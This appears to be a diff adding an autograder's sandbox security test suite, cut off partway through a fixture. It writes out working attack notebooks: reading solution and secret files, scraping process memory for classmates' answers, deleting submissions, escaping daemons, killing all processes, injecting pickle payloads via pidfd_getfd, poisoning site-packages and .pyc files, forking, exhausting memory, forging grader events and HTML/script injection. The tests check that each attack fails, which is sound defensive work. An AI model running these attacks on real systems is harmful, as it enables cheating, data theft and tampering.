@@ -1,0 +1,894 @@
+"""Attacks on the sandbox (issue 11): one class, each attack a student, graded once.
+
+The class of the fixture course's lesson A holds two honest students (answers written their
+own way, each with a marker comment), a blank one, and one student per attack. Every attack
+student's notebook is the blank notebook with its first answer cell replaced by the attack, so
+it earns nothing unless the attack works. The class is graded once (`grade` in a throwaway PID
+namespace, see tests/attack_support.py); a second run re-grades a few of the same students
+together with files that must come out invalid, a third one a deeply nested JSON file.
+
+For each attack: it scores no more than its answers earn (0), the honest students keep full
+marks and the blank one 0, no process of the run is left, the course tree, the class folder,
+the course's shared package and the gradebook hold only what grading wrote, and the re-graded
+students get the same grades. Attacks that still succeed against the current code are marked
+`xfail(strict=True)` with the reason: the mark goes when the hole is closed.
+
+Last, the sandbox itself (autograder/runner/sandbox.py) is run directly: from a grader whose
+working folder is not the course root, and as an unprivileged user made with `useradd`.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from attack_support import (A, REPO, attack, feedback_text, fixture_course, grade, honest,
+                            outputs_text, read_rows, tree_digest, write)
+
+pytestmark = pytest.mark.slow
+
+TIMEOUT = 5  # seconds per cell
+HONEST = {"aa-honest-1": "zq-honest-marker-one", "aa-honest-2": "zq-honest-marker-two"}
+ELEMENTS_800_MIB = 200 * (1 << 20)  # float32 elements: 0.8 GiB (a third of 2.4 GiB)
+# The attacks below are run by the sandbox, never by this process.
+
+READ_FILES = r'''
+import os
+for path in TARGETS:
+    try:
+        if os.path.isdir(path):
+            print("GOT" + "-DIR", path, sorted(os.listdir(path))[:40])
+        else:
+            with open(path, "rb") as handle:
+                print("GOT" + "-FILE", path, handle.read(600))
+    except OSError as err:
+        print("refused", path, "|", err.strerror)
+'''
+
+READ_MEMORY = r'''
+import gc, re, time, torch
+found = []
+for obj in gc.get_objects():  # requests of other notebooks still referenced in this process
+    if isinstance(obj, dict) and isinstance(obj.get("cells"), list):
+        for cell in obj["cells"]:
+            if isinstance(cell, (list, tuple)) and len(cell) == 2 and isinstance(cell[1], str):
+                found.append(cell[1])
+stolen = {}
+for source in found:
+    if "get_objects" in source or "NotImplementedError" in source:
+        continue  # this notebook, and blank answers
+    print("CLASSMATE", source)
+    scratch = {"torch": torch}
+    try:
+        exec(source, scratch)
+    except BaseException:
+        continue
+    for name in ("cube_grad", "intermediate_grad"):
+        if callable(scratch.get(name)):
+            stolen.setdefault(name, scratch[name])
+globals().update(stolen)
+print("stolen:", sorted(stolen))
+pattern = re.compile(rb"[ -~\n]{0,300}SOLU" rb"TION[ -~\n]{0,300}")
+began = time.monotonic()
+for line in open("/proc/self/maps"):  # and what freed memory still holds (for 2 s)
+    fields = line.split()
+    if time.monotonic() - began > 2:
+        break
+    if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
+        continue
+    start, end = (int(x, 16) for x in fields[0].split("-"))
+    try:
+        with open("/proc/self/mem", "rb") as mem:
+            mem.seek(start)
+            data = mem.read(end - start)
+    except (OSError, ValueError, OverflowError):
+        continue
+    for match in pattern.finditer(data):
+        print("MEMORY", match.group(0)[:600])
+'''
+
+DELETE = r'''
+import os, shutil
+for path in FILES:
+    try:
+        os.remove(path)
+        print("DELE" + "TED", path)
+    except OSError as err:
+        print("kept", path, "|", err.strerror)
+for path in FOLDERS:
+    shutil.rmtree(path, ignore_errors=True)
+    print("gone?", path, not os.path.exists(path))
+'''
+
+DAEMON = r'''
+import ctypes, os, signal, time
+libc = ctypes.CDLL(None)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
+        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
+            signal.signal(sig, signal.SIG_IGN)
+        end = time.time() + 120
+        while time.time() < end:
+            for path in TARGETS:
+                try:
+                    with open(path, "a") as handle:
+                        handle.write("daemon,LESSON,99,3,graded,rewritten by a daemon\n")
+                except OSError:
+                    pass
+            time.sleep(0.2)
+        os._exit(0)
+    os._exit(0)
+libc.prctl(1, 0, 0, 0, 0)  # the notebook's own process too: no parent-death signal,
+os.setsid()                # and out of the process group the grader kills
+print("daemon started")
+'''
+
+SIGNALS = r'''
+import os, signal
+me = os.getpid()
+seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
+print("processes in view:", sorted(seen))
+sent = 0
+for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
+    for pid in sorted(seen | set(range(2, 3000))):
+        if pid != me:
+            try:
+                os.kill(pid, sig)
+                sent += 1
+            except OSError:
+                pass
+try:
+    os.kill(-1, signal.SIGKILL)  # kill -9 -1
+except OSError:
+    pass
+print("signals delivered:", sent)
+'''
+
+PIPES = r'''
+import json, os
+me = os.getpid()
+forged = "".join(json.dumps(m) + "\n" for m in (
+    {"event": "done", "index": 4, "execution_count": 1, "timed_out": False, "seconds": 0,
+     "outputs": [{"output_type": "stream", "name": "stdout", "text": "FORGED" + "-BY-PIPES"}]},
+    {"event": "observing"}, {"event": "observations", "outcomes": {}}, {"event": "end"},
+    {"event": "exited", "pid": 1, "status": 0}))
+written = 0
+for name in os.listdir("/proc"):
+    if not name.isdigit() or int(name) == me:
+        continue
+    try:
+        fds = os.listdir(f"/proc/{name}/fd")
+    except OSError:
+        continue
+    for fd in fds:
+        path = f"/proc/{name}/fd/{fd}"
+        try:
+            if os.readlink(path).startswith(("pipe:", "socket:")):
+                with open(path, "w") as handle:
+                    handle.write(forged)
+                written += 1
+        except OSError:
+            pass
+print("pipes of other processes written:", written)
+'''
+
+PIDFD = r'''
+import ctypes, io, os, pickle, stat, struct
+libc = ctypes.CDLL(None, use_errno=True)
+me = os.getpid()
+
+class Payload:  # unpickled by whoever reads it: creates MARKER
+    def __reduce__(self):
+        return (io.open, (MARKER, "w"))
+
+data = pickle.dumps(("result", Payload()))
+message = struct.pack("!i", len(data)) + data  # multiprocessing.Connection's framing
+reached = taken = sent = 0
+for pid in sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | set(range(1, 3000))):
+    if pid == me:
+        continue
+    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
+    if pidfd < 0:
+        continue
+    reached += 1
+    for target in range(64):
+        fd = libc.syscall(438, pidfd, target, 0)  # pidfd_getfd
+        if fd < 0:
+            continue
+        taken += 1
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                os.write(fd, message)
+                sent += 1
+        except OSError:
+            pass
+        os.close(fd)
+    os.close(pidfd)
+print("processes reached:", reached, "descriptors taken:", taken, "pickles sent:", sent)
+'''
+
+COURSEKIT = r'''
+import importlib._bootstrap_external as bootstrap
+import importlib.util, os, sysconfig
+import coursekit, coursekit.checks
+folder = os.path.dirname(coursekit.__file__)
+site = sysconfig.get_paths()["purelib"]
+evil = "def check_tensor(*args, **kwargs):\n    return None\nATTACKED = True\n"
+pyc = {}
+for name in ("checks", "scenarios"):
+    source = os.path.join(folder, name + ".py")
+    st = os.stat(source)
+    pyc[importlib.util.cache_from_source(source)] = bootstrap._code_to_timestamp_pyc(
+        compile(evil, source, "exec"), st.st_mtime, st.st_size)
+texts = {os.path.join(folder, "checks.py"): "\nATTACKED = True\n",
+         os.path.join(folder, "attack_module.py"): "ATTACKED = True\n",
+         os.path.join(site, "sitecustomize.py"): "# attack\n",
+         os.path.join(site, "zz_attack.pth"): "# attack\n",
+         SCENARIOS: "\nATTACKED = True\n"}
+for path, data in list(pyc.items()) + list(texts.items()):
+    try:
+        with open(path, "ab" if path.endswith(".py") and path in texts else "wb") as handle:
+            handle.write(data if isinstance(data, bytes) else data.encode())
+        print("WRO" + "TE", path)
+    except OSError as err:
+        print("refused", path, "|", err.strerror)
+'''
+
+NETWORK = r'''
+import socket
+def attempt(label, family, address):
+    try:
+        with socket.socket(family, socket.SOCK_STREAM) as sock:
+            sock.settimeout(3)
+            sock.connect(address)
+            sock.sendall(b"attack")
+        print("CONNEC" + "TED", label)
+    except OSError as err:
+        print("no network:", label, "|", type(err).__name__, err.strerror)
+attempt("loopback", socket.AF_INET, ("127.0.0.1", PORT))
+attempt("internet", socket.AF_INET, ("1.1.1.1", 53))
+attempt("abstract", socket.AF_UNIX, "\0" + ABSTRACT)
+try:
+    socket.getaddrinfo("pypi.org", 443)
+    print("RESOL" + "VED")
+except OSError as err:
+    print("no name resolution:", err)
+'''
+
+FORKS = r'''
+import ctypes, os, time
+libc = ctypes.CDLL(None)
+started = 0
+for _ in range(200):
+    try:
+        pid = os.fork()
+    except OSError:
+        continue
+    if pid == 0:
+        libc.prctl(1, 0, 0, 0, 0)
+        os.setsid()
+        time.sleep(600)
+        os._exit(0)
+    started += 1
+print("forked", started, "processes that never end")
+'''
+
+MEMORY = r'''
+import os, select, signal, time, torch
+ready_r, ready_w = os.pipe()
+children = []
+for _ in range(3):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            block = torch.ones(ELEMENTS)  # touched: really in memory
+            os.write(ready_w, b"x")
+            time.sleep(30)
+        finally:
+            os._exit(0)
+    children.append(pid)
+ready = dead = 0
+began = time.monotonic()
+while ready + dead < 3 and time.monotonic() - began < 20:
+    if select.select([ready_r], [], [], 0.05)[0]:
+        ready += len(os.read(ready_r, 3))
+    try:
+        pid, status = os.waitpid(-1, os.WNOHANG)
+    except ChildProcessError:
+        break
+    dead += bool(pid)
+for pid in children:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+print("children holding 0.8 GiB:", ready, "killed:", dead)
+'''
+
+HEARTBEAT = r'''
+import json, os, stat, time
+channels = []
+for name in os.listdir("/proc/self/fd"):
+    try:
+        if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
+            channels.append(int(name))
+    except OSError:
+        pass
+def send(message):
+    for fd in channels:
+        try:
+            os.write(fd, (json.dumps(message) + "\n").encode())
+        except OSError:
+            pass
+pending = [4, 5, 7, 8]  # the cells after this one, reported "done" one by one, then "observing"
+began = time.monotonic()
+while time.monotonic() - began < SECONDS:
+    send({"event": "done", "index": pending.pop(0), "outputs": [], "execution_count": 1,
+          "timed_out": False, "seconds": 0.1} if pending else {"event": "observing"})
+    time.sleep(TIMEOUT / 3)
+print("ran for", round(time.monotonic() - began), "s")
+'''
+
+HTML = r'''
+from IPython.display import HTML, Markdown, display
+print("<script>document.title = 'pwned-by-print'</script>")
+display(HTML("<img src=x onerror=\"document.title = 'pwned-by-html'\">"))
+display(Markdown("<script>document.title = 'pwned-by-markdown'</script>"))
+'''
+
+
+def _source(template: str, **values) -> str:
+    """The attack with its constants set (each name = a Python literal)."""
+    lines = [f"{name} = {value!r}" for name, value in values.items()]
+    return "\n".join(lines + [template.strip()])
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    from autograder.demo import Lessons
+
+    base = tmp_path_factory.mktemp("attacks")
+    run = uuid.uuid4().hex[:12]
+    root = fixture_course.build_course(base / "course")
+    course = Lessons(root, [A])
+    classes, out = base / "class", base / "out"
+    submitted = root / "submitted"
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.setblocking(False)
+    abstract_name = f"autograder-attack-{run}"
+    abstract = socket.socket(socket.AF_UNIX)
+    abstract.bind("\0" + abstract_name)
+    abstract.listen(8)
+    abstract.setblocking(False)
+    markers = {"daemon": base / "daemon-was-here", "pidfd": base / "pidfd-pickle-ran",
+               "tmp": Path(f"/tmp/autograder-attack-{run}")}
+
+    students = {name: honest(course, f"def cube_grad(x):  # {marker}\n    return 3 * x.detach() ** 2",
+                             f"def intermediate_grad():  # {marker}\n    return None")
+                for name, marker in HONEST.items()}
+    students["blank"] = course.blank(A)
+    secret_files = [root / ".autograder" / "secret", REPO / ".autograder" / "secret"]
+    attacks = {
+        "read-files": _source(READ_FILES, TARGETS=[
+            f"../../solutions/{A}/{A}.ipynb", "../../solutions", "../solutions", "/solutions",
+            str(root / "solutions" / A / f"{A}.ipynb"), str(root / "gradebook.db"),
+            *map(str, secret_files), str(submitted / "aa-honest-1" / A / f"{A}.ipynb"),
+            str(classes / "aa-honest-1" / f"{A}.ipynb"), str(root / "scenarios" / f"{A}.py"),
+            str(REPO / "solutions"), str(REPO / "autograder" / "executor.py"), str(out),
+            str(root), str(classes), str(base)]),
+        "read-memory": READ_MEMORY,
+        "delete": _source(DELETE, FILES=[
+            str(submitted / "aa-honest-1" / A / f"{A}.ipynb"),
+            str(classes / "aa-honest-2" / f"{A}.ipynb"), str(root / "gradebook.db"),
+            str(root / "solutions" / A / f"{A}.ipynb"), str(root / "scenarios" / f"{A}.py"),
+            str(root / "nbgrader_config.py"), str(out / "grades.csv"),
+            f"../../submitted/aa-honest-1/{A}/{A}.ipynb"],
+            FOLDERS=[str(submitted), str(classes), str(root / "autograded")]),
+        "daemon": _source(DAEMON, LESSON=A, TARGETS=[
+            str(out / "grades.csv"), str(root / "gradebook.db"), str(markers["daemon"]),
+            str(markers["tmp"]), str(submitted / "aa-honest-1" / A / f"{A}.ipynb")]),
+        "signals": SIGNALS,
+        "pipes": PIPES,
+        "pidfd": _source(PIDFD, MARKER=str(markers["pidfd"])),
+        "coursekit": _source(COURSEKIT, SCENARIOS=str(root / "scenarios" / f"{A}.py")),
+        "network": _source(NETWORK, PORT=listener.getsockname()[1], ABSTRACT=abstract_name),
+        "forks": FORKS,
+        "memory": _source(MEMORY, ELEMENTS=ELEMENTS_800_MIB),
+        "heartbeat": _source(HEARTBEAT, SECONDS=4 * TIMEOUT, TIMEOUT=TIMEOUT),
+        "html": HTML,
+    }
+    for name, source in attacks.items():
+        students[name] = attack(course, source)
+    from nbformat.v4 import new_code_cell
+    many = course.blank(A)  # a notebook of 10,000 cells
+    many.cells += [new_code_cell("pass") for _ in range(10_000 - len(many.cells))]
+    students["cells-10000"] = many
+    for name, nb in students.items():
+        write(nb, classes / name / f"{A}.ipynb")
+
+    # What grading must not change: compiled first, so that the grader's own imports write
+    # nothing new into coursekit/__pycache__.
+    subprocess.run([sys.executable, "-m", "compileall", "-q", str(REPO / "coursekit")],
+                   check=True)
+    site = Path(subprocess.run([sys.executable, "-c", "import sysconfig; print(sysconfig."
+                                "get_paths()['purelib'])"], capture_output=True, text=True,
+                               check=True).stdout.strip())
+    guarded = {"solutions": root / "solutions", "scenarios": root / "scenarios",
+               "notebooks": root / "notebooks", "class": classes,
+               "coursekit": REPO / "coursekit"}
+    before = {name: tree_digest(folder) for name, folder in guarded.items()}
+    before["config"] = tree_digest(root)["nbgrader_config.py"]
+
+    first = grade(classes, out, root, base / "first.json", timeout=TIMEOUT)
+    rows = read_rows(out)
+    grades_after_run = (out / "grades.csv").read_bytes() if (out / "grades.csv").is_file() else b""
+    time.sleep(2)  # a daemon that survived would write now
+    after = {name: tree_digest(folder) for name, folder in guarded.items()}
+    after["config"] = tree_digest(root).get("nbgrader_config.py")
+    connections = []
+    for sock in (listener, abstract):
+        try:
+            connections.append(sock.accept())
+        except BlockingIOError:
+            pass
+        sock.close()
+    yield {"base": base, "root": root, "out": out, "classes": classes, "course": course,
+           "rows": rows, "first": first, "grades_after_run": grades_after_run,
+           "before": before, "after": after, "connections": connections, "markers": markers,
+           "site": site, "secret_files": secret_files, "run": run}
+    for marker in markers.values():
+        if marker.exists():
+            marker.unlink()
+
+
+def _row(attacked, student: str) -> dict:
+    row = attacked["rows"].get((student, A))
+    assert row is not None, (f"no row for {student}: the run ended with {attacked['first']['rc']}"
+                             f"\n{attacked['first']['stderr'][-3000:]}")
+    return row
+
+
+def _texts(attacked, student: str) -> str:
+    return outputs_text(attacked["root"], student) + feedback_text(attacked["out"], student)
+
+
+def test_the_run_completes(attacked):
+    first = attacked["first"]
+    assert first["rc"] == 0, first["stdout"][-2000:] + first["stderr"][-4000:]
+
+
+def test_honest_students_keep_full_marks_and_blank_scores_zero(attacked):
+    for student in HONEST:
+        row = _row(attacked, student)
+        assert (row["status"], row["score"], row["max_score"]) == ("graded", "3", "3"), row
+    row = _row(attacked, "blank")
+    assert (row["status"], row["score"]) == ("graded", "0"), row
+
+
+# Every attack scores what its answers earn: nothing. The expected status of each.
+ATTACKS = {
+    "read-files": "graded", "read-memory": "graded", "delete": "graded", "daemon": "graded",
+    "signals": "graded", "pipes": "graded", "pidfd": "graded", "coursekit": "graded",
+    "network": "graded", "forks": "graded", "html": "graded",
+    "memory": "error", "heartbeat": "timeout",
+}
+_MEMORY_XFAIL = pytest.mark.xfail(
+    strict=True, reason="issue 11: the cgroup's OOM kill of a child is not reported when the "
+                        "notebook's own process survives and finishes (row 'graded')")
+_HEARTBEAT_XFAIL = pytest.mark.xfail(
+    strict=True, reason="issue 11: forged 'done'/'observing' events re-arm the grader's "
+                        "per-cell clock (a cell runs 4 x the limit, row 'graded')")
+_MEMORY_READ_XFAIL = pytest.mark.xfail(
+    strict=True, reason="issue 11: a notebook forked from a zygote holds, live in its memory, "
+                        "the request (all cells, seeds) of the first notebook that zygote ran: "
+                        "a classmate's answers, found with gc and executed")
+
+
+@pytest.mark.parametrize("student", [
+    pytest.param(name, marks=_MEMORY_XFAIL if name == "memory" else _HEARTBEAT_XFAIL
+                 if name == "heartbeat" else _MEMORY_READ_XFAIL if name == "read-memory"
+                 else ()) for name in ATTACKS])
+def test_each_attack_scores_nothing(attacked, student):
+    row = _row(attacked, student)
+    assert row["score"] == "0", row
+    assert row["status"] == ATTACKS[student], row
+
+
+def test_reading_the_course_gets_no_such_file(attacked):
+    text = _texts(attacked, "read-files")
+    assert f"refused ../../solutions/{A}/{A}.ipynb | No such file or directory" in text
+    assert "refused ../../solutions | No such file or directory" in text
+    assert "GOT-FILE" not in text and "GOT-DIR" not in text
+    for secret in attacked["secret_files"]:
+        if secret.is_file():
+            assert secret.read_text().strip() not in text
+    for marker in HONEST.values():
+        assert marker not in text
+    assert "SQLite format 3" not in text  # the gradebook's header
+
+
+@_MEMORY_READ_XFAIL
+def test_no_classmate_notebook_in_memory(attacked):
+    text = _texts(attacked, "read-memory")
+    for marker in HONEST.values():
+        assert marker not in text, "a classmate's notebook was read from memory"
+    assert "BEGIN SOLUTION" not in text
+    assert "stolen: []" in text
+
+
+def test_deleting_other_submissions_fails(attacked):
+    text = _texts(attacked, "delete")
+    assert "DELETED" not in text
+    for name in ("solutions", "scenarios", "notebooks", "class"):
+        assert attacked["after"][name] == attacked["before"][name], name
+    for student in HONEST:
+        assert (attacked["root"] / "submitted" / student / A / f"{A}.ipynb").is_file()
+
+
+def test_no_process_of_the_run_is_left(attacked):
+    left = attacked["first"]["left"]
+    assert left == [], json.dumps(left, indent=1)[:3000]
+
+
+def test_a_daemon_never_rewrites_grades_or_the_gradebook(attacked):
+    out, markers = attacked["out"], attacked["markers"]
+    assert not markers["daemon"].exists() and not markers["tmp"].exists()
+    current = (out / "grades.csv").read_bytes()
+    assert current == attacked["grades_after_run"]
+    assert b"rewritten by a daemon" not in current
+    assert b"rewritten by a daemon" not in (attacked["root"] / "gradebook.db").read_bytes()
+
+
+def test_signals_reach_no_other_process(attacked):
+    text = _texts(attacked, "signals")
+    assert "processes in view: [1]" in text or "processes in view: [1, 2]" in text, text[:2000]
+    # what they did not reach: the honest students and the run (tested above)
+
+
+def test_other_processes_pipes_are_out_of_reach(attacked):
+    assert "pipes of other processes written: 0" in _texts(attacked, "pipes")
+    for student in (*HONEST, "blank"):
+        assert "FORGED-BY-PIPES" not in _texts(attacked, student)
+
+
+def test_pidfd_getfd_reaches_no_worker(attacked):
+    assert "descriptors taken: 0 pickles sent: 0" in _texts(attacked, "pidfd")
+    assert not attacked["markers"]["pidfd"].exists()
+
+
+def test_coursekit_and_the_environment_stay_unchanged(attacked):
+    assert "WROTE" not in _texts(attacked, "coursekit")
+    assert attacked["after"]["coursekit"] == attacked["before"]["coursekit"]
+    assert attacked["after"]["scenarios"] == attacked["before"]["scenarios"]
+    assert attacked["after"]["config"] == attacked["before"]["config"]
+    for name in ("sitecustomize.py", "zz_attack.pth"):
+        assert not (attacked["site"] / name).exists(), name
+
+
+def test_no_network(attacked):
+    text = _texts(attacked, "network")
+    assert "CONNECTED" not in text and "RESOLVED" not in text
+    assert "no network: loopback" in text and "no network: abstract" in text
+    assert attacked["connections"] == []
+
+
+def test_forked_processes_are_cleaned_up(attacked):
+    assert "processes that never end" in _texts(attacked, "forks")
+    assert attacked["first"]["left"] == []
+
+
+@_MEMORY_XFAIL
+def test_memory_of_forked_children_is_limited(attacked):
+    row = _row(attacked, "memory")
+    assert row["status"] == "error", row
+    assert "ran out of memory" in row["reason"] and "2 GiB" in row["reason"], row
+
+
+@_HEARTBEAT_XFAIL
+def test_fake_heartbeats_do_not_extend_the_time_limit(attacked):
+    row = _row(attacked, "heartbeat")
+    assert row["status"] == "timeout", row
+    assert "01-ex1-answer" in row["reason"], row
+
+
+def test_printed_html_is_escaped_in_feedback(attacked):
+    page = feedback_text(attacked["out"], "html")
+    assert page, "no feedback page"
+    for raw in ("<script>document.title", "<img src=x onerror"):
+        assert raw not in page, raw
+
+
+def test_gradebook_holds_what_grading_wrote(attacked):
+    from nbgrader.api import Gradebook
+
+    root, rows = attacked["root"], attacked["rows"]
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "autograd-hooks") as gb:
+        assert {s.id for s in gb.students} == {student for student, _ in rows}
+        for (student, lesson), row in rows.items():
+            submission = gb.find_submission(lesson, student)
+            assert submission.score == float(row["score"]), (student, row)
+    assert sorted(p.name for p in root.iterdir()) == sorted(
+        [".autograder", "autograded", "feedback", "gradebook.db", "nbgrader_config.py",
+         "notebooks", "scenarios", "solutions", "submitted"])
+    assert sorted(p.name for p in (root / "submitted").iterdir()) == sorted(
+        student for student, _ in rows)
+
+
+# --------------------------------------------------------------------------------------------
+# A second run: some of the same students again, with files that must come out invalid
+
+@pytest.fixture(scope="module")
+def regraded(attacked):
+    base, course = attacked["base"], attacked["course"]
+    again = base / "again"
+    for student in (*HONEST, "blank", "coursekit", "delete", "daemon"):
+        shutil.copytree(attacked["classes"] / student, again / student)
+    (again / "non-utf8").mkdir(parents=True)
+    (again / "non-utf8" / f"{A}.ipynb").write_bytes(b"\xff\xfe{\"cells\": [\x80\x81]}")
+    (again / "symlink").mkdir()
+    os.symlink(attacked["root"] / "solutions" / A / f"{A}.ipynb",
+               again / "symlink" / f"{A}.ipynb")
+    result = grade(again, base / "out-again", attacked["root"], base / "again.json",
+                   timeout=TIMEOUT)
+    return {"result": result, "rows": read_rows(base / "out-again")}
+
+
+def test_second_run_gives_the_same_grades(attacked, regraded):
+    rows = regraded["rows"]
+    assert regraded["result"]["rc"] == 0, regraded["result"]["stderr"][-4000:]
+    for student in (*HONEST, "blank", "coursekit", "delete", "daemon"):
+        first, second = attacked["rows"][(student, A)], rows.get((student, A))
+        assert second is not None, student
+        assert (second["score"], second["status"]) == (first["score"], first["status"]), student
+    assert regraded["result"]["left"] == []
+
+
+def test_a_notebook_of_10000_cells_is_decided_and_the_rest_graded(attacked):
+    row = _row(attacked, "cells-10000")
+    assert row["status"] in ("graded", "invalid", "error", "timeout") and row["reason"], row
+    assert row["score"] == "0", row
+
+
+def test_a_non_utf8_file_is_invalid_and_the_rest_is_graded(regraded):
+    rows = regraded["rows"]
+    assert rows[("non-utf8", A)]["status"] == "invalid", rows[("non-utf8", A)]
+    assert "not text" in rows[("non-utf8", A)]["reason"]
+    for student in HONEST:
+        assert rows[(student, A)]["score"] == "3"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 11: a notebook in SUBMISSIONS that is a symlink "
+                                       "is followed (here to the solution: full marks)")
+def test_a_symlinked_notebook_is_not_followed(regraded):
+    row = regraded["rows"].get(("symlink", A))
+    assert row is not None and row["score"] == "0", row
+    assert row["status"] == "invalid", row
+
+
+@pytest.mark.xfail(strict=True, reason="issue 11: json.loads raises RecursionError on a deeply "
+                                       "nested notebook; read_notebook catches only "
+                                       "JSONDecodeError and the whole run stops")
+def test_a_deeply_nested_notebook_is_invalid_and_the_class_is_graded(attacked):
+    base, course = attacked["base"], attacked["course"]
+    nested = base / "nested"
+    write(course.blank(A), nested / "blank" / f"{A}.ipynb")
+    shutil.copytree(attacked["classes"] / "aa-honest-1", nested / "aa-honest-1")
+    (nested / "deep").mkdir()
+    (nested / "deep" / f"{A}.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000
+                                               + "}")
+    result = grade(nested, base / "out-nested", attacked["root"], base / "nested.json",
+                   timeout=TIMEOUT, linger=0.5)
+    rows = read_rows(base / "out-nested")
+    assert result["rc"] == 0, result["stderr"][-3000:]
+    assert rows[("deep", A)]["status"] == "invalid", rows[("deep", A)]
+    assert rows[("aa-honest-1", A)]["score"] == "3"
+    assert rows[("blank", A)]["score"] == "0"
+
+
+# --------------------------------------------------------------------------------------------
+# The sandbox itself
+
+_CWD_PROBE = r'''
+import os, sys
+from autograder.executor import host_config
+from autograder.runner.sandbox import Policy, confine
+readonly = host_config(0, 1, True)["readonly"]
+target = os.path.join(os.getcwd(), "classmate.ipynb")
+read, write = os.pipe()
+pid = os.fork()
+if pid == 0:
+    os.close(read)
+    confine(Policy(readonly=readonly, root_dir=sys.argv[1], memory_limit=0))
+    try:
+        text = "READ " + open(target).read()
+    except OSError as err:
+        text = "refused " + err.strerror
+    os.write(write, text.encode())
+    os._exit(0)
+os.close(write)
+data = b""
+while chunk := os.read(read, 4096):
+    data += chunk
+os.waitpid(pid, 0)
+print(data.decode())
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="issue 11: the worker's sys.path (its working folder, "
+                                       "as `python -m` puts it first, and PYTHONPATH entries) "
+                                       "is bound into every sandbox")
+def test_the_graders_working_folder_is_not_in_the_sandbox(tmp_path):
+    """A grader started from another folder than the course root (with PYTHONPATH naming the
+    course) must not show that folder to the notebooks."""
+    if os.geteuid() != 0:
+        pytest.skip("runs the sandbox as root")
+    cwd, modules = tmp_path / "grading", tmp_path / "modules"
+    cwd.mkdir()
+    modules.mkdir()
+    (tmp_path / "root").mkdir(mode=0o755)
+    (cwd / "classmate.ipynb").write_text("a classmate's answers")
+    (modules / "cwd_probe.py").write_text(_CWD_PROBE)
+    env = dict(os.environ, PYTHONPATH=f"{REPO}{os.pathsep}{modules}")
+    done = subprocess.run([sys.executable, "-m", "cwd_probe", str(tmp_path / "root")], cwd=cwd,
+                          env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr[-3000:]
+    assert "refused No such file or directory" in done.stdout, done.stdout
+
+
+_UNPRIVILEGED_PROBE = r'''
+import ctypes, json, os, signal, socket, sys, time
+here = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, here)
+import sandbox
+libc = ctypes.CDLL(None, use_errno=True)
+report = {"user": os.getuid(), "available": sandbox.check_available()}
+listener = socket.socket()
+listener.bind(("127.0.0.1", 0))
+listener.listen(4)
+listener.setblocking(False)
+secret = os.path.join(here, "grader-secret.txt")
+with open(secret, "w") as handle:
+    handle.write("the grader's own file")
+os.chmod(secret, 0o600)
+root = os.path.join(here, "root")
+os.makedirs(root, exist_ok=True)
+read, write = os.pipe()
+pid = os.fork()
+if pid == 0:
+    os.close(read)
+    sandbox.confine(sandbox.Policy(root_dir=root, memory_limit=0, readonly=[]))
+    seen = {"uid": os.getuid(), "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit())}
+    for name, path in (("secret", secret), ("passwd-shadow", "/etc/shadow"), ("home", here)):
+        try:
+            seen[name] = open(path).read(100) if os.path.isfile(path) else os.listdir(path)
+        except OSError as err:
+            seen[name] = err.strerror
+    try:
+        with socket.create_connection(("127.0.0.1", listener.getsockname()[1]), timeout=2):
+            seen["network"] = "connected"
+    except OSError as err:
+        seen["network"] = err.strerror
+    try:
+        os.kill(-1, signal.SIGKILL)
+    except OSError:
+        pass
+    # A notebook that leaves a daemon, and escapes the parent-death signal and the process
+    # group the grader kills.
+    if os.fork() == 0:
+        os.setsid()
+        libc.prctl(1, 0, 0, 0, 0)
+        libc.prctl(15, b"atk-daemon", 0, 0, 0)
+        time.sleep(120)
+        os._exit(0)
+    libc.prctl(1, 0, 0, 0, 0)
+    os.setsid()
+    libc.prctl(15, b"atk-notebook", 0, 0, 0)
+    os.write(write, (json.dumps(seen) + "\n").encode())
+    os.close(write)
+    time.sleep(120)
+    os._exit(0)
+os.close(write)
+data = b""
+while not data.endswith(b"\n"):  # one line: the daemon it leaves holds the pipe open
+    chunk = os.read(read, 65536)
+    if not chunk:
+        break
+    data += chunk
+report["inside"] = json.loads(data or b"{}")
+try:
+    listener.accept()
+    report["accepted"] = True
+except BlockingIOError:
+    report["accepted"] = False
+# What the grader does when a notebook ends: kill its process group and its process, reap it.
+for kill in (lambda: os.killpg(pid, signal.SIGKILL), lambda: os.kill(pid, signal.SIGKILL)):
+    try:
+        kill()
+    except OSError:
+        pass
+os.waitpid(pid, 0)
+time.sleep(1)
+left = []
+for name in os.listdir("/proc"):
+    try:
+        comm = open(f"/proc/{name}/comm").read().strip()
+    except OSError:
+        continue
+    if comm.startswith("atk-"):
+        left.append([int(name), comm])
+        os.kill(int(name), signal.SIGKILL)  # ours: this probe started them
+report["left"] = left
+print(json.dumps(report))
+'''
+
+
+@pytest.fixture(scope="module")
+def unprivileged(tmp_path_factory):
+    """The sandbox module run by Debian's Python as an unprivileged user made for the test."""
+    python = Path("/usr/bin/python3")
+    if os.geteuid() != 0 or not python.exists() or shutil.which("useradd") is None:
+        pytest.skip("needs root, useradd and /usr/bin/python3 (as in CI)")
+    name = "agsandbox"
+    try:
+        pwd.getpwnam(name)
+        created = False
+    except KeyError:
